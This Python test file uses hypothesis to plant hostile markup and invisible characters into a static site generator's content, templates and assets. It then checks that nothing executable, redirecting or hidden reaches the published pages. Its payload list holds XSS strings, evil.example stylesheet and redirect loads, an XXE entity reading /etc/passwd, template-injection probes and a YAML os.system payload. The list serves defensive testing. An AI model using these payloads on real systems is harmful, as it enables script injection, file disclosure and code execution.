"""Markup, controls and addresses planted at random places of every kind of text file: a build never ends
in a traceback, and nothing that runs, leads away or cannot be seen reaches what is published.

What is published is judged here by parsers that the program does not use: html5lib, which reads as
browsers do, and the XML parser of Python. Conflict markers have laws of their own (test_merging_laws).
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from xml.etree import ElementTree as ET

import html5lib
from hypothesis import example, given, settings
from hypothesis import strategies as st

from diptych.cache import Cache
from diptych.diagnostics import Severity, render_report
from diptych.model import Output
from diptych.pipeline import Build, Options, build_site
from tests.conftest import make_tree
from tests.test_merging import SITE as MERGED
from tests.test_merging import text_of as merged_text

MEMO = Cache(None)
EVIL = "evil.example"
SITE = {
    **{path: data for path, data in MERGED.items() if path != "content/time/people.yaml"},
    "content/types.yaml": """\
page:
  place: {type: text, translate: true, label: {nl: Plaats, fr: Lieu}}
  chair: {type: reference, to: people}
people:
  id: {type: key, required: true}
  name: {type: text, required: true, label: {nl: Naam, fr: Nom}}
  story: {type: prose, translate: true}
  site: {type: link}
""",
    "content/about/people.yaml": """\
- id: yumi
  name: Yumi
  story: {nl: "Een *verhaal*.", fr: "Une *histoire*."}
  site: https://yumi.example/
- id: an
  name: An
  story:
    nl: |
      Nog een.
    fr: |
      Encore une.
""",
    "content/time/chapters.yaml": "- id: begin\n  from: first\n  title: {nl: Begin, fr: Début}\n",
    "content/about/diagram.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>Wij</title>'
        '<style>g { fill: teal }</style><g id="a"><path d="M0 0h9"/></g></svg>\n'
    ),
    "content/news/nl.md": (
        "---\ntitle: Nieuws\ndescription: Een zin.\nplace: Gent\nchair: yumi\ndate: 2024-06-08\n---\n\n"
        "Tekst met [een link](page:about), `code` en **nadruk**.[^1]\n\n![Wij](diagram.svg)\n\n"
        "| a | b |\n|---|---|\n| c | d |\n\n> [!NOTE]\n> Een kader.\n\n```\ncode\n```\n\n[^1]: Een noot.\n"
    ),
    "content/agenda/nl.md": "---\ntitle: Agenda\nlayout: agenda\n---\n",
    "content/agenda/fr.md": "---\ntitle: Rendez-vous\nlayout: agenda\n---\n",
    "content/agenda/agenda.yaml": (
        "- id: meeting\n  dates: [2027-03-18T19:30]\n  title: {nl: Vergadering, fr: Réunion}\n"
        "  place: {nl: de zaal, fr: la salle}\n  text: {nl: Wij eten samen., fr: Nous mangeons.}\n"
    ),
    "content/site.lock": "# diptych translations 1: written by `build.py confirm`, one unit a line\n",
    "assets/app.webmanifest": '{"name": "Wij", "icons": [{"src": "icon.svg"}]}\n',
    "assets/data.json": '{"a": ["een", "twee"]}\n',
    "assets/letters.txt": "Een licentie.\n",
    "content/news/diagram.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>\n',
}
WHERE = [  # every kind of text; scripts are code, and are read for what is unseen alone
    "content/about/nl.md",
    "content/news/nl.md",
    "content/news/fr.md",
    "content/about/diagram.svg",
    "content/site.yaml",
    "content/time/timeline.yaml",
    "content/time/chapters.yaml",
    "content/about/people.yaml",
    "content/agenda/agenda.yaml",
    "content/site.lock",
    "assets/app.webmanifest",
    "assets/data.json",
    "assets/letters.txt",
    "content/terms.yaml",
    "content/types.yaml",
    "content/about/translations.lock",
    "content/addresses.lock",
    "content/words.txt",
    "i18n/fr/LC_MESSAGES/messages.po",
    "templates/base.html",
    "templates/page.html",
    "templates/timeline.html",
    "assets/site.css",
    "assets/icon.svg",
]
MARKUP = [
    "<script>alert(31337)</script>",
    "<img src=x onerror=alert(31337)>",
    '"><svg onload=alert(31337)>',
    "' onmouseover='alert(31337)",
    '" onmouseover="alert(31337)',
    "[x](javascript:alert(31337))",
    "![x](javascript:alert(31337))",
    "[x]: javascript:alert(31337)",
    "<javascript:alert(31337)>",
    '<a href="java&#115;cript:alert(31337)">x</a>',
    f'<meta http-equiv=refresh content="0;url=https://{EVIL}/">',
    f'<base href="https://{EVIL}/">',
    '<iframe srcdoc="<script>alert(31337)</script>"></iframe>',
    "{onclick=alert(31337)}",
    "{: onclick=alert(31337) }",
    f'<style>@import "//{EVIL}/x.css";</style>',
    f'@import "//{EVIL}/x.css";',
    f"g{{background:u\\72l(//{EVIL}/x)}}",
    f"url(//{EVIL}/x)",
    f'<form action="https://{EVIL}/"><input name=q></form>',
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<link rel=preload as=image imagesrcset='//{EVIL}/x 1x'>",
    f"<svg><title><img src=//{EVIL}/x></title></svg>",
    f"<noscript><p title='</noscript><img src=//{EVIL}/x>'>x</p></noscript>",
    f"<p data-source='x //{EVIL}/x 2x'>x</p>",
    "1" * 5000,
    f'<image href="https://{EVIL}/x.png"/>',
    f'<p ping="https://{EVIL}/" background="https://{EVIL}/">x</p>',
    "&lt;script&gt;alert(31337)&lt;/script&gt;",
    "&#60;script&#62;alert(31337)&#60;/script&#62;",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[<script>alert(31337)</script>]]>",
    "</script><script>alert(31337)</script>",
    "</style><script>alert(31337)</script>",
    "</svg>",
    "</main></body></html>",
    f'<?xml-stylesheet href="//{EVIL}/x.css"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "&e;",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{{ view.__class__.__mro__ }}",
    "%(x)s",
    "%",
    "!!python/object/apply:os.system [id]",
    "&a [*a]",
    "<<: *a",
    "\\u0000",
    '"\\x1b"',
    "'",
    '"',
    "\\",
    "```",
    "---\n",
    "\n- ",
    ": ",
    "$x$",
]
UNSEEN = [
    "\x00",
    "\x01",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\x9b",
    "\u202e",
    "\u2066",
    "\u200b",
    "\u2028",
    "\ufeff",
    "\ufffc",
    "\ufffd",
    "\ufdd0",
    "\ue000",
    "\U000e0041",
    "\u3164",
    "&#8238;",
    "&#x1b;",
    "&#0;",
    "&ZeroWidthSpace;",
    "&#xE0041;",
]
FETCHED = (
    "src",
    "srcset",
    "imagesrcset",
    "data",
    "poster",
    "background",
    "href",
    "fill",
    "style",
    "manifest",
)
LEADING = (*FETCHED, "action", "formaction", "ping", "attributionsrc")
PLANTS = st.lists(
    st.tuples(
        st.sampled_from(WHERE),
        st.floats(0, 1, exclude_max=True),
        st.sampled_from([*MARKUP, *UNSEEN]),
    ),
    min_size=1,
    max_size=2,
)


def text_of(path: str) -> str:
    data = SITE.get(path)
    return merged_text(path) if data is None else data if isinstance(data, str) else data.decode()


def built(plants: list[tuple[str, float, str]]) -> Build:
    files: dict[str, str | bytes | None] = dict(SITE)
    for path, place, piece in plants:
        given = files.get(path, text_of(path))
        text = given.decode() if isinstance(given, bytes) else str(given)
        at = int(place * (len(text) + 1))
        files[path] = text[:at] + piece + text[at:]
    return build_site(make_tree(files, minimal=False), Options(thorough=True), MEMO)


def runs_in(markup: str) -> Iterator[str]:
    """What a browser would run, or be led by, in a page or in a piece of one."""
    root = html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)
    for element in root.iter():
        name = str(element.tag).rpartition("}")[2].lower()
        text = "".join(element.itertext()) if name in ("script", "style") else ""
        if name == "style" and fetched_by(text):
            yield "<style>"
        if name == "script" and "31337" in text and "json" not in element.get("type", ""):
            yield "<script>"
        if name in ("iframe", "base", "object", "embed", "image"):
            yield f"<{name}>"
        for key, value in element.attrib.items():
            attribute = str(key).rpartition("}")[2].lower()
            address = re.sub(r"[\x00-\x20]", "", value).lower()
            if attribute.startswith("on") or address.startswith(("javascript:", "data:text")):
                yield f"{attribute}={value}"
            if EVIL in value and (name, attribute) != ("a", "href") and attribute in LEADING:
                yield f"<{name} {attribute}={value}>"
        leads_on = element.get("http-equiv", "").lower() == "refresh"
        if leads_on and EVIL in element.get("content", ""):
            yield "refresh"


def fetched_by(style: str) -> list[str]:
    """The references of a style sheet to another site; a comment is none."""
    bare = re.sub(r"(?s)/\*.*?(?:\*/|$)", "", style)
    return re.findall(rf"(?:@import|(?<![\w-])url\()[^;)]*{EVIL}", bare)  # topic-url() is not url()


def acts_in(output: Output) -> list[str]:
    text = output.data.decode("utf-8", "replace")
    if output.path.endswith((".html", ".htm")):
        return list(runs_in(text))
    if output.path.endswith("feed.xml"):
        contents = ET.fromstring(text).iter("{http://www.w3.org/2005/Atom}content")
        return [each for content in contents for each in runs_in(content.text or "")]
    if output.path.endswith(".svg"):
        ET.fromstring(text)
        return [*runs_in(text), *re.findall(rf"=[\"']\s*(?:https?:)?//{EVIL}", text)]
    if output.path.endswith(".css"):
        return fetched_by(text)
    return []


def unseen_in(output: Output) -> list[str]:
    """Controls, marks of direction, and what no text may hold: by the names of Unicode."""
    if output.path.endswith((".png", ".jpg", ".webp", ".pdf")) or "pagefind" in output.path:
        return []
    allowed = "\n\t\r" if output.path.endswith((".csv", ".ics")) else "\n\t"
    marks = "\ufeff" if output.path.endswith(".csv") else ""
    return [
        f"{output.path}: U+{ord(char):04X}"
        for char in set(output.data.decode("utf-8"))
        if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
        and char not in allowed + marks
    ]


@settings(max_examples=200)
@given(PLANTS)
@example([("content/about/nl.md", 0.9, "\x85")])
@example([("content/site.yaml", 0.99, "\x00")])
@example([("templates/page.html", 0.5, "<body onload=alert(31337)>")])
@example([("assets/site.css", 0.5, "url(//evil.example/x)")])
def test_nothing_that_runs_or_hides_reaches_a_reader(plants: list[tuple[str, float, str]]) -> None:
    build = built(plants)
    report = render_report("text", build.diagnostics, build.sources)
    assert "Traceback" not in report
    if build.failed:  # then nothing is published
        assert any(each.severity is Severity.ERROR for each in build.diagnostics)
        return
    assert [(each.path, acts) for each in build.outputs if (acts := acts_in(each))] == []
    assert [each for output in build.outputs for each in unseen_in(output)] == []


def test_the_site_without_plants_is_published() -> None:
    build = built([])
    assert not build.failed, render_report("text", build.diagnostics, build.sources)
    assert {"nl/tijdlijn/timeline.csv", "nl/feed.xml"} <= {each.path for each in build.outputs}
